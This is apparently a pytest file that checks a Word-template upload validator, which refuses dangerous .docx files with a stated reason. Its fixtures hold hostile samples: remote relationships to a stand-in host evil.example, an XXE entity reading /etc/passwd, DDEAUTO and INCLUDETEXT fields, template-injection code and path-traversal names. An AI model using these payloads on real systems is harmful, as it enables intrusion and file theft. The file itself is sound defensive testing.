"""What may be uploaded as a template, and what is refused with what reason."""

from __future__ import annotations

from pathlib import Path

import pytest

from renda.documents import checking
from renda.documents.language import TemplateFault
from tests.documents.wordfiles import letter, part, with_part, word_file

GOOD = word_file("{{ 事项 }}")
RELS = "word/_rels/document.xml.rels"
CONTENT_TYPES = "[Content_Types].xml"


def with_relation(kind: str) -> bytes:
    relation = (
        f'<Relationship Id="rX" Type="http://x/relationships/{kind}" Target="http://evil.example/x" TargetMode="External"/>'
    )
    return with_part(GOOD, RELS, part(GOOD, RELS).replace(b"</Relationships>", relation.encode() + b"</Relationships>"))


def with_body(xml: str) -> bytes:
    name = "word/document.xml"
    return with_part(GOOD, name, part(GOOD, name).replace(b"<w:sectPr", xml.encode() + b"<w:sectPr", 1))


BAD = {
    "macro": (with_part(GOOD, "word/vbaProject.bin", b"x"), "含有宏"),
    "macro type": (with_part(GOOD, CONTENT_TYPES, part(GOOD, CONTENT_TYPES).replace(b"document.main+xml", b"document.macroEnabled.main+xml")), "含有宏"),
    "object": (with_part(GOOD, "word/embeddings/oleObject1.bin", b"x"), "嵌有别的对象"),
    "control": (with_part(GOOD, "word/activeX/activeX1.xml", b"<x/>"), "嵌有别的对象"),
    "remote template": (with_relation("attachedTemplate"), "外部的内容"),
    "remote picture": (with_relation("image"), "外部的内容"),
    "remote part": (with_relation("aFChunk"), "外部的内容"),
    "entity": (with_part(GOOD, "word/document.xml", b'<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>'), "外部实体"),
    "field": (with_body('<w:p><w:r><w:instrText>DDEAUTO c:\\\\x "y"</w:instrText></w:r></w:p>'), "外部内容的域"),
    "simple field": (with_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT /etc/passwd "/></w:p>'), "外部内容的域"),
    "not a document": (b"PK\x03\x04nonsense", "不是完好的 Word 文档"),
    "old format": (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "旧版 Word"),
    "no placeholder": (word_file("没有占位符"), "没有占位符"),
    "unknown word": (word_file("{{ 查无此词 }}"), "查无此词"),
    "code": (word_file("{{ ''.__class__ }}"), "不允许的写法"),
    "large": (GOOD + bytes(checking.MOST_BYTES), "最多 2048 KB"),
    "long": (word_file("{{ 事项 }}" + "长" * checking.MOST_TEXT), "太长"),
}  # fmt: skip


@pytest.mark.parametrize("case", BAD)
def test_what_cannot_be_a_template_is_refused_with_the_reason(case: str, tmp_path: Path) -> None:
    content, reason = BAD[case]
    with pytest.raises(TemplateFault, match=reason):
        checking.check(letter(tmp_path), "模板.docx", content)


@pytest.mark.parametrize("name", ["模板.doc", "模板.docm", "模板.dotx", "模板", "模板.docx.exe", "../模板.pdf"])
def test_only_docx_is_taken(name: str, tmp_path: Path) -> None:
    with pytest.raises(TemplateFault, match=r"只接受 \.docx"):
        checking.check(letter(tmp_path), name, GOOD)


@pytest.mark.parametrize("name", ["模板.docx", "../../模板.DOCX", "很" * 200 + ".docx"])
def test_a_sound_template_is_taken_whatever_it_is_called(name: str, tmp_path: Path) -> None:
    assert checking.check(letter(tmp_path), name, with_relation("hyperlink")) == {"事项"}
